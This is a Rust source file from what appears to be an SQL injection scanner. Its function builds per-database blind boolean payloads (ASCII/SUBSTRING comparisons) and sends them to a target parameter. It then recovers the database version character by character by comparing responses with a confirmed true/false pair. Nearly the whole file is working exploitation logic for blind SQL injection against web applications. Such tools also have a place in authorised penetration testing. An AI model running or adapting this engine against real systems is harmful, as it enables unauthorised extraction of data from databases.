//! Character-by-character extraction through a confirmed boolean oracle

use super::comparator::responses_differ;
use super::mutation::build_full_payload;
use super::union::dialect_for;
use super::{ProbeKind, ScanContext};
use crate::events::LogLevel;
use crate::models::{AttackSurface, CapturedResponse, Dbms};
use tracing::debug;

/// Responses of the confirmed true/false payload pair
#[derive(Debug, Clone)]
pub struct BooleanOracle {
    pub true_response: CapturedResponse,
    pub false_response: CapturedResponse,
}

/// Condition testing whether character `position` (1-based) of `query` has code `code`
pub fn char_condition(dbms: Dbms, query: &str, position: usize, code: u8) -> String {
    match dbms {
        Dbms::Oracle => format!("AND ASCII(SUBSTR(({query}),{position},1))={code}"),
        Dbms::Sqlite => format!("AND UNICODE(SUBSTR(({query}),{position},1))={code}"),
        Dbms::MySql | Dbms::PostgreSql | Dbms::MsSql | Dbms::Unknown => {
            format!("AND ASCII(SUBSTRING(({query}),{position},1))={code}")
        }
    }
}

/// Recovers the DBMS version string one printable character at a time.
/// Stops at the first position where no character matches.
pub async fn extract_version(
    ctx: &ScanContext,
    surface: &AttackSurface,
    param: &str,
    prefix: &str,
    dbms: Dbms,
    oracle: &BooleanOracle,
) -> Option<String> {
    let tuning = &ctx.options.tuning;
    let tolerance = tuning.pair_tolerance;
    let floor = tuning.length_floor;

    if !responses_differ(&oracle.true_response, &oracle.false_response, tolerance, floor) {
        ctx.prober.log(
            LogLevel::Warn,
            "Blind extraction skipped: true and false responses are alike",
        );
        return None;
    }

    let query = dialect_for(dbms).map(|d| d.version_expr).unwrap_or("@@version");
    let mut extracted = String::new();

    for position in 1..=tuning.blind_max_len {
        let mut found = None;
        for code in 32u8..127 {
            if ctx.prober.is_stopped() {
                return (!extracted.is_empty()).then_some(extracted);
            }
            let payload = build_full_payload(prefix, &char_condition(dbms, query, position, code), dbms);
            match ctx.prober.send(surface, param, &payload, ProbeKind::Blind).await {
                Ok(resp) => {
                    let like_true = !responses_differ(&resp, &oracle.true_response, tolerance, floor);
                    let unlike_false = responses_differ(&resp, &oracle.false_response, tolerance, floor);
                    if like_true && unlike_false {
                        found = Some(code as char);
                        break;
                    }
                }
                Err(e) => debug!("Blind probe {position}/{code} failed: {e}"),
            }
        }
        match found {
            Some(c) => {
                extracted.push(c);
                debug!("Blind extraction for {param}: {extracted:?}");
            }
            None => break,
        }
    }

    if extracted.is_empty() {
        None
    } else {
        ctx.prober.log(
            LogLevel::Info,
            &format!("Blind extraction for '{param}' recovered {extracted:?}"),
        );
        Some(extracted)
    }
}
